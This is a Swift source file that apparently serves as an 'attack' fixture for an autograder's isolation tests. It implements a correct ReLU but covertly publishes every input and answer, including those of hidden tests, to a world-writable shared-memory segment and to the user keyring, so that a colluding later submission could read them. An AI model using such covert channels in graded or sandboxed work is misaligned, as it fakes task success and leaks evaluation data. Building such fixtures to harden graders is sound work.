// ATTACK (collude-publish, with collude-read): an honest ReLU that publishes every input and its
// answer where a later submission of the same batch can read them: a System V shared-memory
// segment (any uid may attach: mode 0666) and the uid's user keyring (kept by the kernel after the
// process ends). Hidden tests' inputs go there too. This submission earns its own points honestly;
// collude-read, which has no ReLU code, must earn none and must not see anything published here.
import Foundation
import WorkbookCore
#if canImport(Glibc)
import Glibc
#endif

public func reluForward(_ x: Tensor) throws -> (out: Tensor, cache: ReLUCache) {
    // START ReLU1
    let out = x.map { Swift.max($0, 0) }
    Colluder.publish(key: "F" + Colluder.digest(x), answer: out)
    return (out, ReLUCache(x: x))
    // END ReLU1
}

public func reluBackward(_ dout: Tensor, cache: ReLUCache) throws -> Tensor {
    // START ReLU2
    let dx = try Tensor.zip(dout, cache.x, operation: "reluBackward") { g, x in x > 0 ? g : 0 }
    Colluder.publish(key: "B" + Colluder.digest(dout) + Colluder.digest(cache.x), answer: dx)
    return dx
    // END ReLU2
}

@_silgen_name("syscall") func colluderSyscall(_ number: Int, _ a: Int, _ b: Int, _ c: Int, _ d: Int, _ e: Int) -> Int

enum Colluder {
    static let segmentKey: key_t = 0x5EED_0DE5
    static let segmentSize = 1 << 20

    /// A short, order-sensitive digest of a tensor's shape and values.
    static func digest(_ t: Tensor) -> String {
        var h: UInt64 = 1469598103934665603
        for v in t.shape.map(Double.init) + t.scalars { h = (h ^ v.bitPattern) &* 1099511628211 }
        return String(h, radix: 36)
    }

    static func publish(key: String, answer: Tensor) {
        let line = key + "\t" + answer.shape.map(String.init).joined(separator: ",") + "\t"
            + answer.scalars.map { String($0.bitPattern, radix: 36) }.joined(separator: ",") + "\n"
        // 1. System V shared memory: [used bytes as Int][lines…]
        let id = shmget(segmentKey, segmentSize, IPC_CREAT | 0o666)
        if id >= 0, let base = shmat(id, nil, 0), base != UnsafeMutableRawPointer(bitPattern: -1) {
            let used = base.load(as: Int.self)
            let bytes = Array(line.utf8)
            if used + 8 + bytes.count < segmentSize {
                bytes.withUnsafeBytes { (base + 8 + used).copyMemory(from: $0.baseAddress!, byteCount: bytes.count) }
                base.storeBytes(of: used + bytes.count, as: Int.self)
            }
            shmdt(base)
        }
        // 2. The uid's user keyring (add_key, syscall 248 on x86-64; KEY_SPEC_USER_KEYRING = -4).
        #if arch(x86_64)
        "user".withCString { type in
            key.withCString { description in
                line.withCString { payload in
                    _ = colluderSyscall(248, Int(bitPattern: type), Int(bitPattern: description), Int(bitPattern: payload), strlen(payload), -4)
                }
            }
        }
        #endif
    }
}
